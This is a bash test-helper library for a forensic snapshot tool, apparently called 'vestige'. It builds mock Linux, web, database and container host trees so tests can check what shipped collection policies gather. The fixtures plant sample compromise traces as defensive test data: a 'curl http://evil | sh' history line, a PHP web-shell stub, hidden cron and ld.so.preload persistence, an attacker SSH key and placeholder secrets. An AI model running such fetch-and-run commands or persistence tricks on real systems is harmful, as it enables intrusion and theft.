# shellcheck shell=bash
# What the scripts about shipped policies share: trees like those of real hosts, and what came of a policy over one.
# shellcheck source=tests/cli/lib.sh
. "$TESTS/cli/lib.sh"
need jq

policies=$TESTS/../policies

# put PATH [TEXT]: a file in tree/.
put() {
	mkdir -p "tree/$(dirname "$1")"
	printf '%s\n' "${2:-$1}" >"tree/$1"
}

# files_only POLICY TO: the policy without the sources that are not of files. Sources are blocks that begin with "  - name:".
files_only() {
	awk '
		function flush() {
			if (block != "" && block !~ /\n    (live|journal|sqlite|postgres|artifacts):/) printf "%s", block
			block = ""
		}
		/^  - name:/ { flush(); inside = 1 }
		inside { block = block $0 "\n"; next }
		{ print }
		END { flush() }' "$1" >"$2"
}

# take POLICY…: a snapshot of tree/ by the files sources of a shipped policy; its items are in items.json. Sets $case.
take() {
	local name=$1
	case=case-$name
	files_only "$policies/$name.yaml" "$name.yaml"
	expect_exit 0 vestige policy check "$name.yaml"
	new_case "$case"
	expect_exit 0 vestige -C "$case" snapshot "$name.yaml" --root tree
	expect_exit 0 vestige -C "$case" --json ls -i analyst.key latest
	jq -c .item "$out" >items.json
	expect_exit 0 vestige -C "$case" verify --deep -i analyst.key
}

# has SOURCE CONTENT PATH…: collected by that source, with full, digest or metadata of content.
has() {
	local source=$1 content=$2 path
	shift 2
	for path in "$@"; do
		[[ -n $(jq -r --arg s "$source" --arg p "$path" --arg c "$content" 'select(.source == $s and .path == $p and
			.status == "collected" and (.content // "full") == $c) | .path' items.json) ]] ||
			fail "$path is not collected ($content) by source $source: $(jq -c --arg p "$path" 'select(.path == $p)' items.json)"
	done
}

# is STATUS SOURCE PATH…
is() {
	local status=$1 source=$2 path
	shift 2
	for path in "$@"; do
		assert_equal "$status" "$(jq -r --arg s "$source" --arg p "$path" 'select(.source == $s and .path == $p) | .status' items.json)" \
			"status of $path in source $source"
	done
}

# in_order SOURCE…: the sources come in this order.
in_order() {
	assert_equal "$*" "$(jq -r --arg l "$*" '.source | select(IN($l | split(" ")[]))' items.json | uniq | paste -sd' ' -)" "order of sources"
}

make_linux() {
	put etc/passwd 'root:x:0:0::/root:/bin/bash
alice:x:1000:1000::/home/alice:/bin/bash'
	put etc/group 'root:x:0:
alice:x:1000:'
	put etc/shadow 'root:*:19000:0:99999:7:::'
	put etc/passwd- old
	put etc/sudoers 'root ALL=(ALL:ALL) ALL'
	put etc/sudoers.d/90-alice
	put etc/pam.d/sshd
	put etc/os-release 'PRETTY_NAME="Imaged Linux 7"'
	put etc/hostname imaged
	put etc/hosts '127.0.0.1 localhost'
	put etc/resolv.conf
	put etc/nftables.conf
	put etc/ssh/sshd_config 'PermitRootLogin yes'
	put etc/ssh/sshd_config.d/evil.conf
	put etc/crontab
	put etc/cron.d/job '* * * * * root /tmp/.x'
	put etc/cron.daily/logrotate
	put var/spool/cron/crontabs/alice '@reboot /home/alice/.x'
	put var/spool/cron/atjobs/a0001
	put etc/systemd/system/evil.service '[Service]'
	put etc/systemd/system/ssh.service.d/override.conf
	put etc/systemd/user/agent.service
	put run/systemd/system/transient.service
	put run/systemd/generator/gen.mount
	put usr/lib/systemd/system/ssh.service
	put usr/lib/systemd/system-generators/evil-generator
	put usr/local/lib/systemd/system/local.service
	put home/alice/.config/systemd/user/miner.timer
	put home/alice/.config/autostart/start.desktop
	put root/.config/systemd/user/root.service
	put etc/rc.local
	put etc/init.d/old
	put etc/rc2.d/S01old
	put etc/ld.so.preload /lib/evil.so
	put etc/modprobe.d/x.conf
	put etc/udev/rules.d/99-x.rules
	put usr/lib/udev/rules.d/50-default.rules
	put etc/profile.d/x.sh
	put etc/xdg/autostart/y.desktop
	put etc/apt/apt.conf.d/99hook
	put etc/apt/sources.list.d/evil.list
	put etc/update-motd.d/00-x
	put root/.bash_history 'curl http://evil | sh'
	put root/.ssh/authorized_keys 'ssh-ed25519 AAAA root@evil'
	put home/alice/.bash_history ls
	put home/alice/.zsh_history ls
	put home/alice/.mysql_history 'select 1'
	put home/alice/.python_history 'import os'
	put home/alice/.viminfo
	put home/alice/.bashrc
	put home/alice/.ssh/known_hosts
	put home/alice/.ssh/authorized_keys
	put home/alice/.local/share/recently-used.xbel
	put home/alice/.local/share/Trash/files/secret
	put home/alice/.config/rclone/rclone.conf
	put home/alice/.aws/credentials
	put var/lib/git/.ssh/authorized_keys
	put etc/openvpn/client.conf
	put var/log/auth.log
	put var/log/syslog.1
	put var/log/wtmp
	put var/log/btmp.1
	put var/log/lastlog
	put var/log/audit/audit.log
	put var/log/sudo-io/00/00/01/log
	put run/utmp
	put dev/shm/.hidden
	put tmp/.x/miner
	put var/tmp/dropper
	put var/lib/dpkg/status 'Package: base'
	put var/lib/dpkg/info/base.md5sums
	put var/log/dpkg.log
	put usr/bin/tool
	put usr/lib/libx.so.1
	put boot/vmlinuz
	put opt/vendor/program
	mkdir -p tree/proc tree/sys
	put proc/never
	chmod 4755 tree/usr/bin/tool
	ln -sf tool tree/usr/bin/link
	mkfifo tree/run/fifo
}

make_web() {
	put etc/nginx/nginx.conf
	put etc/nginx/sites-enabled/shop
	put etc/apache2/sites-enabled/000-default.conf
	put etc/php/8.2/fpm/pool.d/www.conf
	put etc/letsencrypt/live/shop/privkey.pem
	put etc/passwd 'www-data:x:33:33::/var/www:/usr/sbin/nologin'
	put var/log/nginx/access.log '203.0.113.7 - - "POST /uploads/shell.php"'
	put var/log/nginx/access.log.2.gz
	put var/log/apache2/error.log
	put var/log/php8.2-fpm.log
	put var/www/shop/public/index.php '<?php'
	put var/www/shop/public/.htaccess
	put var/www/shop/public/uploads/shell.php '<?php system(1);'
	put var/www/shop/.env 'DB_PASSWORD=secret'
	put var/www/shop/logs/app.log
	put var/www/shop/node_modules/left/index.js
	put var/www/shop/var/cache/page
	put var/www/html/wp-content/plugins/x.php
	put var/www/html/wp-content/cache/page
	put home/bob/public_html/index.php
	put srv/www/other/index.html
	put usr/lib/cgi-bin/old.cgi
	put var/lib/php/sessions/sess_abc 'email|s:3:"a@b"'
	put tmp/phpA1b2C3
	put dev/shm/x
	put var/spool/cron/crontabs/www-data
	put var/www/.bash_history
}

make_database() {
	put etc/postgresql/15/main/postgresql.conf
	put etc/postgresql/15/main/pg_hba.conf
	put etc/mysql/my.cnf
	put etc/mysql/mariadb.conf.d/50-server.cnf
	put var/lib/postgresql/15/main/PG_VERSION 15
	put var/lib/postgresql/15/main/postgresql.auto.conf
	put var/lib/postgresql/15/main/log/postgresql-1.log
	put var/lib/postgresql/15/main/base/1/1259
	put var/lib/postgresql/.psql_history
	put var/lib/pgsql/data/pg_hba.conf
	put var/log/postgresql/postgresql-15-main.log
	put var/log/mysql/error.log
	put var/log/mysql/mariadb-bin.000001
	put var/lib/mysql/binlog.000007
	put var/lib/mysql/shop/customers.ibd
	put var/lib/mysql/auto.cnf
	put var/lib/mysql/host.err
	put root/.my.cnf
	put root/.mysql_history
	put home/dba/.psql_history
	put home/dba/.pgpass
	put usr/lib/postgresql/15/lib/evil.so
	put srv/app/shop.sqlite3
	put srv/app/shop.sqlite3-wal
	put srv/app/deep/er/notes.db
	put var/lib/docker/volumes/x/y.db
	put var/backups/dump.sql
	put tmp/customers.csv
}

make_containers() {
	local id=0123456789abcdef
	put "var/lib/docker/containers/$id/config.v2.json" '{"Config":{"Image":"evil"}}'
	put "var/lib/docker/containers/$id/hostconfig.json" '{"Privileged":true}'
	put "var/lib/docker/containers/$id/$id-json.log" '{"log":"x"}'
	put "var/lib/docker/image/overlay2/repositories.json"
	put "var/lib/docker/image/overlay2/imagedb/content/sha256/$id"
	put "var/lib/docker/overlay2/$id/diff/usr/bin/evil"
	put "var/lib/docker/overlay2/$id/merged/usr/bin/evil"
	put var/lib/docker/network/files/local-kv.db
	put var/lib/docker/volumes/data/_data/file
	put etc/docker/daemon.json
	put etc/containers/registries.conf
	put etc/cni/net.d/10.conf
	put etc/kubernetes/manifests/evil.yaml
	put var/lib/kubelet/config.yaml
	put "var/lib/kubelet/pods/$id/volumes/token"
	put var/log/pods/ns_pod/c/0.log
	put etc/containerd/config.toml
	put var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db
	put "run/containerd/io.containerd.runtime.v2.task/moby/$id/config.json"
	put "run/runc/$id/state.json"
	put "var/lib/containers/storage/overlay-containers/$id/userdata/ctr.log"
	put "var/lib/containers/storage/overlay-containers/$id/userdata/config.json"
	put var/lib/containers/storage/overlay-containers/containers.json
	put var/lib/containers/storage/overlay-images/images.json
	put home/alice/.local/share/containers/storage/overlay-containers/containers.json
	put home/alice/.docker/config.json '{"auths":{}}'
	put srv/shop/docker-compose.yml
	put srv/shop/.env
	put root/.config/containers/systemd/evil.container
}

make_personal() {
	put srv/records/alice.json '{"ssn":"123-45-6789"}'
	put srv/shop/customers/list.csv 'a@b.example'
	put var/log/auth.log
	put var/log/wtmp
	put var/log/nginx/access.log
	put tmp/export.csv 'a@b.example'
	put home/eve/all.tar.gz
	put var/backups/old.sql
}
